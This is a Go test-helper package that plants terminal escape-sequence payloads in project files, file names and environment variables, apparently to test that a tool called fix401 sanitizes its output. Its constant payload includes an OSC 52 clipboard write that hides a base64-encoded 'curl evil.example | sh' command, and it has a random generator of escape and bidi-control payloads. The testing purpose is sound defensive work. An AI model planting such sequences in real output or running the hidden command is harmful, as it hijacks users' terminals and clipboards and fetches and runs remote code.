// Package hostile plants text that tries to drive a terminal everywhere a
// project and its environment can put text into fix401's output, for the
// tests that prove every output sanitizes it. Nothing outside tests
// imports this package.
package hostile

import (
	"encoding/json"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// Payload is one of each attack: an OSC 52 clipboard write, a screen
// clear, a title change, a colour, a DCS query, an 8-bit CSI, a
// right-to-left override and an isolate, a backspace and a carriage
// return, and a lone ESC.
const Payload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" + "\x1b[2J\x1b[H" + "\x1b]0;pwned\x1b\\" +
	"\x1b[38;5;196m" + "\x1bP+q544e\x1b\\" + "\u009b31m" + "\u202e" + "\u2066" + "\b\r" + "\x1b"

// pieces are what Random builds payloads from: introducers, terminators,
// parameters and final bytes of escape sequences, 8-bit controls, bidi
// controls, other C0 controls, bytes that are not UTF-8, and plain text.
// None of them is a space, a quote or a character of a URL's structure, so
// a payload stays inside the value it is planted in.
var pieces = []string{"\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x07", "\x1b\\", "[", "]", ";",
	"0", "2", "52", "38;5;196", "m", "J", "H", "c", "A", "\u009b", "\u009d", "\u0090", "\u009c", "\u0085", "\u202e",
	"\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c", "\r", "\b", "\x7f", "\x00", "\x0b", "\xff", "\xc2", "x", "é"}

// Random returns a payload of a few dozen pieces of escape sequences and
// controls, in an order rng picks.
func Random(rng *rand.Rand) string {
	var b strings.Builder
	for range 5 + rng.IntN(40) {
		b.WriteString(pieces[rng.IntN(len(pieces))])
	}
	return b.String()
}

// Plant writes a project into dir (which must exist) that carries Payload
// in its SDK versions (package.json, requirements.txt, go.mod), in the
// name of a requirements file, and in the name of a variable of
// .claude/settings.json that holds key (a well-formed key, so it is
// found). It returns the environment variables that carry Payload: TZ,
// the proxy variables and NO_PROXY. The caller adds the key in use and
// the base URL.
func Plant(dir, key string) (map[string]string, error) { return PlantPayload(dir, key, Payload) }

// PlantPayload is Plant with another payload.
func PlantPayload(dir, key, payload string) (map[string]string, error) {
	pkg, err := json.Marshal(map[string]any{"name": "app", "dependencies": map[string]string{"@anthropic-ai/sdk": "^0.30.0" + payload}})
	if err != nil {
		return nil, err
	}
	settings, err := json.Marshal(map[string]any{"env": map[string]string{"MY_KEY" + payload: key}})
	if err != nil {
		return nil, err
	}
	files := map[string]string{
		"package.json":     string(pkg),
		"requirements.txt": "anthropic==0.40.0" + payload + "\n",
		"requirements-" + fileSafe(payload) + ".txt": "anthropic>=0.39\n",
		"go.mod": "module example.com/app\n\ngo 1.26\n\nrequire github.com/anthropics/anthropic-sdk-go v1.2.3" + payload + "\n",
		filepath.Join(".claude", "settings.json"): string(settings),
	}
	for name, data := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return nil, err
		}
		if err := os.WriteFile(p, []byte(data), 0o600); err != nil {
			return nil, err
		}
	}
	return map[string]string{
		"TZ":          "Europe/Berlin" + payload,
		"HTTPS_PROXY": "http://proxy" + payload + ".invalid:3128",
		"https_proxy": "http://user:pw" + payload + "@proxy.invalid:3128",
		"ALL_PROXY":   "socks5://proxy.invalid:1080/" + payload,
		"NO_PROXY":    "localhost," + payload,
	}, nil
}

// fileSafe is s without what a file name cannot hold ('/', NUL) or what
// io/fs refuses in a name (bytes that are not UTF-8), so the file is read.
func fileSafe(s string) string {
	return strings.ToValidUTF8(strings.NewReplacer("/", "", "\x00", "").Replace(s), "")
}

// Bad reports the first thing in s that no output may hold: an ESC, a C0
// control other than newline and tab, a C1 control, a bidirectional
// control, or bytes that are not UTF-8.
func Bad(s string) (string, bool) {
	if !utf8.ValidString(s) {
		return "invalid UTF-8", true
	}
	for _, r := range s {
		switch {
		case r == 0x1b:
			return "ESC", true
		case r < 0x20 && r != '\n' && r != '\t', r == 0x7f:
			return "C0 control", true
		case r >= 0x80 && r <= 0x9f:
			return "C1 control", true
		case r == 0x061c, r == 0x200e, r == 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return "bidi control", true
		}
	}
	return "", false
}

// BadStyled is Bad for text fix401 styled: its colour sequences (ESC [
// digits m) are allowed, any other sequence, and the Payload's own colour,
// are not.
func BadStyled(s string) (string, bool) {
	if strings.Contains(s, "\x1b[38;5;196m") {
		return "the payload's colour", true
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == 0x1b && i+1 < len(s) && s[i+1] == '[' {
			j := i + 2
			for j < len(s) && (s[j] >= '0' && s[j] <= '9' || s[j] == ';' || s[j] == ':') {
				j++
			}
			if j < len(s) && s[j] == 'm' {
				i = j
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return Bad(b.String())
}

// BadJSON is Bad for every string of a JSON document as a reader decodes
// it (a control escaped as \u001b is one a reader prints), and for the
// document's text.
func BadJSON(doc []byte) (string, bool) {
	if what, ok := Bad(string(doc)); ok {
		return what, true
	}
	var v any
	if err := json.Unmarshal(doc, &v); err != nil {
		return "not JSON: " + err.Error(), true
	}
	return badValue(v)
}

func badValue(v any) (string, bool) {
	switch v := v.(type) {
	case string:
		if what, ok := Bad(v); ok {
			return what + " in " + strings.ToValidUTF8(v, "?"), true
		}
	case []any:
		for _, e := range v {
			if what, ok := badValue(e); ok {
				return what, true
			}
		}
	case map[string]any:
		for k, e := range v {
			if what, ok := Bad(k); ok {
				return what + " in a key", true
			}
			if what, ok := badValue(e); ok {
				return what, true
			}
		}
	}
	return "", false
}

// ReturnsSoon runs f and fails the test if f has not returned after a
// generous 30 s. It guards the tests that hand fix401 a FIFO or a device,
// which a careless open blocks on forever: such a call must fail the test
// with its name, not hang the whole run. The bound is a hang guard, not a
// margin: a correct f returns at once.
func ReturnsSoon(t testing.TB, what string, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() {
		defer close(done)
		f()
	}()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatalf("%s blocked", what)
	}
}
